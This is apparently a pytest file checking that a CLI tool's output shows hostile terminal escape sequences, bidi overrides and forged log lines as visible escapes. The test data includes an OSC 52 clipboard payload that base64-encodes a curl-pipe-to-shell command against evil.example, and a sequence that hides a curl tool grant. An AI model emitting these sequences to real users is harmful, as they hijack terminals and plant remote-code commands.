"""No command lets a server or a file name drive the user's terminal (issue 9 hole 8; skillwire choice).

Each attack is reproduced from outside: a hostile server (`tests.support.hostile terminal-escapes`)
whose serverInfo, instructions, skill prefix and SKILL.md body carry OSC 0, CSI 2J, OSC 52, U+202E
and C1 controls, run through `skillwire inspect`, `host` and `pull` (in-process, `tests.support.cli`: stdout and
stderr captured with this process's encodings, log lines included, as the process writes them); and folders on
disk with such names run through the real `skillwire serve` and `skillwire validate`. Every output must
hold no raw control, format or separator character, and must show each one as a visible escape.
"""

from __future__ import annotations

import io
import json
import logging
import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path

import anyio
import pytest

from skillwire.cli.catalog_warnings import FolderRoots
from skillwire.cli.main import main
from skillwire.cli.output import SafeFormatter
from skillwire.cli.serve import print_summary
from skillwire.cli.validate import build_report, print_human
from skillwire.core.catalog import Catalog, Refusal
from skillwire.core.hosting.approvals import SkillApprovalRequest
from skillwire.core.hosting.entry import parse_entry
from skillwire.core.hosting.registry import SkillKey
from skillwire.host.prompt import TerminalPrompt
from skillwire.sources.folder.source import FolderSource
from tests.support.cli import run_cli
from tests.support.flood import hostile_command
from tests.support.hostile import (
    ESCAPES_DESCRIPTION,
    ESCAPES_INSTRUCTIONS,
    ESCAPES_PREFIX,
    ESCAPES_SERVER_NAME,
    ESCAPES_SERVER_VERSION,
)
from tests.support.servers import serve_command

RUN_TIMEOUT_S = 60.0
HOSTILE = shlex.join(hostile_command("terminal-escapes"))
HANDLE = f"evil:{ESCAPES_PREFIX}/refunds"

# The attack pieces as a person must see them.
SHOWN_NAME = r"docs\x1b]0;owned\x07\x1b[2J\u202e"
SHOWN_VERSION = r"1.0\u009b31m"
SHOWN_CLIPBOARD = r"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"
SHOWN_PREFIX = r"acme\u202efdp.exe"
# A folder and a file name on disk that would clear the screen, retitle the window, reverse text and write the
# clipboard.
HOSTILE_FOLDER = "ev\x1b]0;owned\x07il\u202e\x9b31m"
SHOWN_FOLDER = r"ev\x1b]0;owned\x07il\u202e\u009b31m"
HOSTILE_FILE = "x\x1b[2Jy\u202e\x1b]52;c;eA==\x07.tmp"
SHOWN_FILE = r"x\x1b[2Jy\u202e\x1b]52;c;eA==\x07.tmp"


def raw_hazards(text: str) -> list[str]:
    """Characters a terminal would act on or hide, found raw in `text` (newline and tab are layout, allowed)."""
    return sorted(
        {f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}}
        - {"U+000A"}
        - {"U+0009"}
    )


def assert_terminal_safe(run: subprocess.CompletedProcess[str]) -> None:
    assert not raw_hazards(run.stdout), (raw_hazards(run.stdout), run.stdout)
    assert not raw_hazards(run.stderr), (raw_hazards(run.stderr), run.stderr)
    assert "Traceback" not in run.stderr, run.stderr


# -- inspect ----------------------------------------------------------------------------------------------------------


def test_inspect_shows_a_hostile_server_name_version_and_instructions_escaped() -> None:
    """A serverInfo.name with OSC 0, CSI 2J and U+202E (and a C1 CSI in its version) no longer drives the terminal."""
    run = run_cli("inspect", HOSTILE)
    assert run.returncode == 0, run.stdout + run.stderr
    assert_terminal_safe(run)
    lines = run.stdout.splitlines()
    assert lines[0].startswith(f"server: {SHOWN_NAME} (self-reported), version {SHOWN_VERSION}, "), lines[0]
    assert lines[1] == rf"instructions: Load the refunds skill first.{SHOWN_CLIPBOARD}\u202e\u0085", lines[1]
    assert any(f"skill://{SHOWN_PREFIX}/refunds/SKILL.md" in line for line in lines), run.stdout


def test_inspect_json_is_exact_and_terminal_safe() -> None:
    """`--json` once let U+202E and C1 controls through raw (ensure_ascii=False); now escaped, same data parsed."""
    run = run_cli("inspect", HOSTILE, "--json")
    assert run.returncode == 0, run.stdout + run.stderr
    assert_terminal_safe(run)
    report = json.loads(run.stdout)
    assert report["server"]["name"] == ESCAPES_SERVER_NAME
    assert report["server"]["version"] == ESCAPES_SERVER_VERSION
    assert report["server"]["instructions"] == ESCAPES_INSTRUCTIONS
    assert f"skill://{ESCAPES_PREFIX}/refunds/SKILL.md" in {s["uri"] for s in report["skills"]}
    assert "\\u202e" in run.stdout
    assert "\\u009b" in run.stdout


# -- host -------------------------------------------------------------------------------------------------------------


def test_host_catalog_shows_a_bidi_handle_escaped() -> None:
    """A prefix segment with U+202E (reads "acmeexe.pdf") shows as an escape in the catalog and collision note."""
    run = run_cli("host", "--server", f"evil={HOSTILE}")
    assert run.returncode == 0, run.stdout + run.stderr
    assert_terminal_safe(run)
    assert f"  evil:{SHOWN_PREFIX}/refunds  " in run.stdout, run.stdout
    assert f"is used by evil:{SHOWN_PREFIX}/refunds, evil:safe/refunds" in run.stdout, run.stdout


def test_host_prompt_and_loaded_content_cannot_write_the_clipboard() -> None:
    """A SKILL.md body with OSC 52 (clipboard), OSC 0 and CSI 2J is printed with each sequence visible, lines kept."""
    run = run_cli("host", "--server", f"evil={HOSTILE}", "--load", HANDLE, "--read", "notes.md", stdin="y\n")
    assert run.returncode == 0, run.stdout + run.stderr
    assert_terminal_safe(run)
    # The approval prompt (stderr): handle, origin URI and description, each with its U+202E shown.
    assert f"The skill evil:{SHOWN_PREFIX}/refunds from mcp-server 'evil', skill://{SHOWN_PREFIX}/" in run.stderr
    assert r"description: Refund an invoice \u202e(reversed)" in run.stderr, run.stderr
    # The content (stdout): its own lines, every escape sequence shown where it was.
    lines = run.stdout.splitlines()
    assert "# Refunds" in lines, run.stdout
    assert rf"{SHOWN_CLIPBOARD}\x1b[2J\x1b]0;owned\x07Refund \u202eat most 50 EUR\u009b31m." in lines, run.stdout
    assert rf"notes\x1b[2J{SHOWN_CLIPBOARD}\u200b\U000e0041" in lines, run.stdout


def test_prompt_shows_hidden_characters_in_a_description_and_a_grant() -> None:
    """The person approving sees hidden characters as escapes (they were stripped, so nobody saw them)."""
    digest = "sha256:" + "a" * 64
    entry = parse_entry(
        {
            "uri": f"skill://{ESCAPES_PREFIX}/refunds/SKILL.md",
            "frontmatter": {
                "name": "refunds",
                "description": ESCAPES_DESCRIPTION + "\U000e0041\U000e0042",
                "allowed-tools": "Bash(ls)\x1b[8m Bash(curl:*)",  # CSI 8m: what follows is invisible
            },
            "resources": [{"uri": f"skill://{ESCAPES_PREFIX}/refunds/SKILL.md", "digest": digest, "size": 10}],
        }
    )
    request = SkillApprovalRequest(
        key=SkillKey("evil", entry.uri),
        handle=HANDLE,
        entry=entry,
        reason="new",
        change=None,
        requested={"allowed-tools": entry.frontmatter["allowed-tools"]},
    )
    out = io.StringIO()
    questions: list[str] = []

    def answer(question: str) -> str:
        questions.append(question)
        return "y"

    anyio.run(TerminalPrompt(out=out, answer=answer).approve_skill, request)
    shown = out.getvalue() + "".join(questions)
    assert not raw_hazards(shown), shown
    assert r"description: Refund an invoice \u202e(reversed)\U000e0041\U000e0042" in shown, shown
    assert r"It asks for 'allowed-tools: Bash(ls)\x1b[8m Bash(curl:*)'" in questions[1], questions


# -- pull -------------------------------------------------------------------------------------------------------------


def test_pull_names_a_bidi_skill_uri_escaped(tmp_path: Path) -> None:
    """`pull` of a skill whose URI holds U+202E once echoed the URI raw; it shows the escape."""
    uri = f"skill://{ESCAPES_PREFIX}/refunds/SKILL.md"
    run = run_cli("pull", HOSTILE, uri, str(tmp_path / "refunds"))
    assert run.returncode == 0, run.stdout + run.stderr
    assert_terminal_safe(run)
    assert run.stdout.startswith(f"pulled skill://{SHOWN_PREFIX}/refunds/SKILL.md (2 files, all verified)"), run.stdout


# -- serve and validate -----------------------------------------------------------------------------------------------


@pytest.fixture
def hostile_tree(tmp_path: Path) -> Path:
    """A good skill holding an ignored file with a hostile name, and a skill folder with a hostile name."""
    root = tmp_path / "skills"
    good = root / "good"
    good.mkdir(parents=True)
    (good / "SKILL.md").write_text("---\nname: good\ndescription: A good skill\n---\nBody.\n", encoding="utf-8")
    (good / ".skillwireignore").write_text("*.tmp\n", encoding="utf-8")
    (good / HOSTILE_FILE).write_text("ignored\n", encoding="utf-8")
    (root / HOSTILE_FOLDER).mkdir()
    (root / HOSTILE_FOLDER / "SKILL.md").write_text("---\nname: evil\ndescription: x\n---\n", encoding="utf-8")
    return root


def test_serve_summary_and_log_lines_show_hostile_file_names_escaped(hostile_tree: Path) -> None:
    """A folder named with OSC 0, U+202E and a C1 CSI is refused; the summary and -v log lines show it escaped."""
    run = subprocess.run(
        serve_command([hostile_tree], "--no-watch", "-v"),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=RUN_TIMEOUT_S,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    assert run.stdout == "", "stdout is the stdio transport: nothing else may be written there"
    assert_terminal_safe(run)
    assert "refused 1 skill" in run.stderr, run.stderr
    summary = [line for line in run.stderr.splitlines() if line.startswith("    ")]
    assert any(f"{SHOWN_FOLDER}/SKILL.md: " in line for line in summary), run.stderr
    logged = [line for line in run.stderr.splitlines() if " INFO skillwire.sources.folder.source: not served: " in line]
    assert logged, run.stderr
    assert f"{SHOWN_FOLDER}/SKILL.md" in logged[0], logged


def test_validate_text_shows_hostile_file_names_escaped(hostile_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`validate` once printed a refused folder's and an ignored file's hostile names raw."""
    code = main(["validate", str(hostile_tree)])
    out = capsys.readouterr().out
    assert code == 1
    assert not raw_hazards(out), (raw_hazards(out), out)
    assert f"{SHOWN_FOLDER}/SKILL.md" in out, out
    assert f"good/{SHOWN_FILE}" in out, out


def test_validate_json_is_exact_and_terminal_safe(hostile_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`--format json` keeps the exact names (same data parsed) but no longer writes U+202E or C1 raw."""
    main(["validate", str(hostile_tree), "--format", "json"])
    out = capsys.readouterr().out
    assert not raw_hazards(out), (raw_hazards(out), out)
    report = json.loads(out)
    assert [r["path"] for r in report["refused"]] == [str(hostile_tree / HOSTILE_FOLDER / "SKILL.md")]
    assert [w["path"] for w in report["warnings"]] == [str(hostile_tree / "good" / HOSTILE_FILE)]


def test_validate_colour_is_ours_and_names_are_escaped(hostile_tree: Path) -> None:
    """With colour on, the only escape sequences written are our own SGR codes around escaped names."""
    report = build_report(FolderSource([hostile_tree]).scan(), FolderRoots([str(hostile_tree)]), [])
    out = io.StringIO()
    print_human(report, out, colour=True, verbose=True)
    text = out.getvalue()
    assert "\x1b[31m" in text  # our own red summary line
    without_ours = text.replace("\x1b[0m", "")
    for sgr in ("31", "32", "33", "1", "2"):
        without_ours = without_ours.replace(f"\x1b[{sgr}m", "")
    assert not raw_hazards(without_ours), without_ours
    assert SHOWN_FOLDER in text


def test_debug_tracebacks_are_terminal_safe(
    hostile_tree: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--debug` once re-raised, so Python printed an exception quoting a hostile name raw; it is escaped now."""

    def fails(args: object) -> int:
        raise RuntimeError(f"cannot read {hostile_tree / HOSTILE_FOLDER}")

    monkeypatch.setattr("skillwire.cli.validate.run_validate", fails)
    code = main(["validate", str(hostile_tree), "--debug"])
    shown = capsys.readouterr().err
    assert code == 1
    assert not raw_hazards(shown), shown
    assert shown.startswith("Traceback (most recent call last):"), shown
    assert shown.rstrip().endswith(f"RuntimeError: cannot read {hostile_tree}/{SHOWN_FOLDER}"), shown


# -- logging ----------------------------------------------------------------------------------------------------------


def test_log_lines_cannot_forge_a_record_or_hide_a_traceback() -> None:
    """A URI with a newline and ESC in a log message stays on its line, escaped; a traceback keeps its lines."""
    formatter = SafeFormatter("skillwire: %(levelname)s %(message)s")
    uri = "skill://a\nskillwire: INFO all fine\x1b[2J\u202e/SKILL.md"
    record = logging.LogRecord("t", logging.WARNING, __file__, 1, "refused %s", (uri,), None)
    assert (
        formatter.format(record)
        == r"skillwire: WARNING refused skill://a\nskillwire: INFO all fine\x1b[2J\u202e/SKILL.md"
    )
    try:
        raise ValueError(f"bad {uri}")
    except ValueError:
        record = logging.LogRecord("t", logging.ERROR, __file__, 1, "failed", (), sys.exc_info())
    record.exc_text = "raw cached \x1b]52;c;eA==\x07"  # another handler's cache is not trusted
    shown = formatter.format(record)
    assert not raw_hazards(shown), shown
    assert shown.splitlines()[1] == "Traceback (most recent call last):"
    assert r"ValueError: bad skill://a" in shown
    assert r"INFO all fine\x1b[2J\u202e/SKILL.md" in shown


def test_a_file_name_that_is_not_utf8_is_shown_as_its_bytes_not_a_crash() -> None:
    """A refusal naming `bad\\xff.md` (surrogate-escaped) once raised UnicodeEncodeError on a UTF-8 stream."""
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="utf-8", errors="strict", write_through=True)
    refusal = Refusal(path="skills/a/bad\udcff\x1b[2J.md", rule="not-utf8-name", message="the name is not UTF-8")
    print_summary(Catalog([], {}, [refusal]), out)
    shown = raw.getvalue().decode("utf-8")
    assert r"skills/a/bad\xff\x1b[2J.md: the name is not UTF-8" in shown, shown
    assert not raw_hazards(shown), shown
